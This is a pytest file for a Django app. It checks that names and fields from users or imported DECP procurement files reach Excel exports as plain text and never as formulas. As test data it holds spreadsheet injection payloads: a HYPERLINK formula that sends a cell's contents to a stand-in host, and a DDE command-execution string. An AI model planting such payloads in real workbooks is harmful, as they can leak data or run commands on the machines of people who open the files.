"""Formula injection: a text typed by a user or read from a DECP file never becomes a formula
in a workbook produced by the application (``mife.core.excel``).

Each test reads the produced workbook back with openpyxl and checks the cell: a string
(``data_type == "s"``), the text unchanged, Excel's quote prefix set, and no formula anywhere.
"""

import datetime as dt
import io
import json
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from openpyxl import load_workbook

from heures.services import excel_heures
from marches import cpv
from mife import roles
from mife.core.excel import DEBUTS_DE_FORMULE, Classeur, est_dangereux
from tests import factories as f

pytestmark = pytest.mark.django_db

LIEN = '=HYPERLINK("http://x"&A1,"clic")'
RACINE = Path(__file__).resolve().parent.parent


def _classeur(contenu: bytes):
    return load_workbook(io.BytesIO(contenu))


def _octets(reponse) -> bytes:
    assert reponse.status_code == 200, reponse.status_code
    if getattr(reponse, "streaming", False):
        return b"".join(reponse.streaming_content)
    return reponse.content


def _cellules(wb):
    for ws in wb.worksheets:
        for ligne in ws.iter_rows():
            yield from ligne


def _cellule(wb, texte: str):
    """The cell holding exactly ``texte`` (any sheet), after checking the whole workbook."""
    _aucune_formule(wb)
    trouvees = [c for c in _cellules(wb) if c.value == texte]
    assert trouvees, f"{texte!r} absent du classeur"
    for cellule in trouvees:
        assert cellule.data_type == "s"
        assert cellule.quotePrefix is True
    return trouvees[0]


def _aucune_formule(wb) -> None:
    for cellule in _cellules(wb):
        assert cellule.data_type != "f", (cellule.coordinate, cellule.value)
        if est_dangereux(cellule.value):
            assert cellule.data_type == "s" and cellule.quotePrefix, cellule.coordinate


# --- the kernel ----------------------------------------------------------------------------------


@pytest.mark.parametrize("en_flux", [False, True], ids=["classeur", "ecriture-seule"])
def test_le_noyau_ecrit_en_texte_chaque_debut_de_formule(en_flux):
    textes = [LIEN, "+1", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1", "=1"]
    assert {t[0] for t in textes} == set(DEBUTS_DE_FORMULE)
    wb = Classeur(write_only=en_flux)
    ws = wb.create_sheet("Export") if en_flux else wb.active
    ws.append([*textes, -5, Decimal("-2.5"), dt.date(2026, 1, 2), "Maçon", "#N/A", None])
    sortie = io.BytesIO()
    wb.save(sortie)

    relu = _classeur(sortie.getvalue())
    ligne = next(relu.active.iter_rows(min_row=1, max_row=1))
    for cellule, texte in zip(ligne, textes, strict=False):
        assert (cellule.value, cellule.data_type, cellule.quotePrefix) == (texte, "s", True)
    nombre, decimal, jour, metier, erreur = ligne[len(textes) : len(textes) + 5]
    # Numbers typed as numbers stay numbers (a negative amount is not a formula).
    assert (nombre.value, nombre.data_type) == (-5, "n")
    assert (decimal.value, decimal.data_type) == (-2.5, "n")
    assert jour.value.date() == dt.date(2026, 1, 2)
    # A harmless text is left as it is; an error code stays a text, not an Excel error.
    assert (metier.value, metier.data_type, metier.quotePrefix) == ("Maçon", "s", False)
    assert (erreur.value, erreur.data_type) == ("#N/A", "s")


def test_aucun_classeur_n_est_ecrit_sans_le_noyau():
    """Every workbook of the app is a ``Classeur``: no other module builds an openpyxl
    ``Workbook`` (reading with ``load_workbook`` stays allowed)."""
    fautifs = []
    for dossier in ("mife", "entreprises", "marches", "heures", "label"):
        for chemin in (RACINE / dossier).rglob("*.py"):
            if chemin.name == "excel.py" and chemin.parent.name == "core":
                continue
            if chemin.name == "mesures.py" and chemin.parent.name == "bench":
                continue  # the bench's bare-openpyxl reference, measured next to Classeur
            texte = chemin.read_text(encoding="utf-8")
            if re.search(r"\bWorkbook\s*\(|import[^\n]*\bWorkbook\b", texte):
                fautifs.append(str(chemin.relative_to(RACINE)))
    assert fautifs == []


# --- every workbook of the app -------------------------------------------------------------------


def test_export_des_entreprises(client_for):
    f.EntrepriseFactory(raison_sociale=LIEN, commune="-Belfort")
    client = client_for(roles.FACILITATEUR)
    wb = _classeur(_octets(client.get(reverse("entreprises:liste"), {"export": "xlsx"})))
    _cellule(wb, LIEN)
    _cellule(wb, "-Belfort")


def test_export_des_participants(client_for):
    f.ParticipantFactory(nom="=cmd|' /C calc'!A0", prenom="@SUM(1)", commune="+33")
    client = client_for(roles.FACILITATEUR)
    reponse = client.get(reverse("heures:participant_liste"), {"export": "xlsx"})
    wb = _classeur(_octets(reponse))
    _cellule(wb, "=CMD|' /C CALC'!A0")  # the list shows the name in capitals
    _cellule(wb, "@SUM(1)")
    _cellule(wb, "+33")


def test_export_des_missions(client_for):
    f.MissionFactory(lot__titulaire__raison_sociale="@SUM(1)")
    client = client_for(roles.FACILITATEUR)
    reponse = client.get(reverse("heures:mission_liste"), {"export": "xlsx"})
    _cellule(_classeur(_octets(reponse)), "@SUM(1)")


def test_modele_d_heures_envoye_aux_entreprises():
    entreprise = f.EntrepriseFactory(raison_sociale=LIEN)
    lot = f.ClauseFactory(
        lot__titulaire=entreprise,
        lot__date_debut=dt.date(2026, 1, 5),
        lot__date_fin=dt.date(2027, 6, 30),
        lot__marche__date_notification=dt.date(2025, 12, 1),
    ).lot
    mission = f.MissionFactory(
        lot=lot,
        employeur=entreprise,
        poste="+1",
        date_debut=dt.date(2026, 2, 1),
        date_fin=dt.date(2026, 12, 31),
        participant=f.ParticipantFactory(nom="-Durand", prenom="Hugo"),
    )
    user = f.UserFactory(role=roles.FACILITATEUR)
    contenu = excel_heures.generer_modele(entreprise, dt.date(2026, 3, 1), user)

    wb = _classeur(contenu)
    _cellule(wb, "+1")  # the mission's job title
    _cellule(wb, LIEN)  # the company's name, in the hidden sheet that identifies the file
    _cellule(wb, str(mission.participant))
    # The template still reads back: the safe cells do not disturb the upload.
    rapport = excel_heures.analyser(contenu)
    assert rapport.erreurs == []
    assert rapport.entreprise == entreprise


def test_export_du_tableau_du_mois(client_for):
    entreprise = f.EntrepriseFactory(raison_sociale="-2+3")
    lot = f.LotFactory(
        titulaire=entreprise, date_debut=dt.date(2025, 1, 1), date_fin=dt.date(2026, 12, 31)
    )
    lot.marche.donneur_ordre.nom = "@SUM(1)"
    lot.marche.donneur_ordre.save()
    f.MissionFactory(
        lot=lot, employeur=entreprise, date_debut=dt.date(2025, 3, 1), date_fin=dt.date(2025, 9, 30)
    )
    client = client_for(roles.SUIVI)
    reponse = client.get(reverse("heures:tableau_mois"), {"mois": "2025-06", "export": "xlsx"})
    wb = _classeur(_octets(reponse))
    _cellule(wb, "-2+3")
    _cellule(wb, "@SUM(1)")


def test_nom_d_acheteur_d_un_fichier_decp(client_for, tmp_path):
    siret = "28900001000032"
    enregistrement = {
        "id": "2019-0001",
        "acheteur": {"id": siret, "nom": "@SUM(1)"},
        "nature": "Marché",
        "objet": '=HYPERLINK("http://x","objet")',
        "codeCPV": f"77310000-{cpv.cle_usuelle('77310000')}",
        "procedure": "Procédure adaptée",
        "lieuExecution": {"code": "90000", "typeCode": "Code postal", "nom": "Belfort"},
        "dureeMois": 12,
        "dateNotification": "2019-03-01",
        "montant": 12000,
        "titulaires": [
            {"typeIdentifiant": "SIRET", "id": "45007614600031", "denominationSociale": LIEN}
        ],
        "modifications": [],
    }
    fichier = tmp_path / "decp.json"
    fichier.write_text(json.dumps({"marches": [enregistrement]}), encoding="utf-8")
    call_command("import_decp", str(fichier), stdout=io.StringIO())

    client = client_for(roles.FACILITATEUR)
    wb = _classeur(_octets(client.get(reverse("marches:donneur_liste"), {"export": "xlsx"})))
    _cellule(wb, "@SUM(1)")
    wb = _classeur(_octets(client.get(reverse("entreprises:liste"), {"export": "xlsx"})))
    _cellule(wb, LIEN)
    wb = _classeur(_octets(client.get(reverse("marches:marche_liste"), {"export": "xlsx"})))
    _aucune_formule(wb)
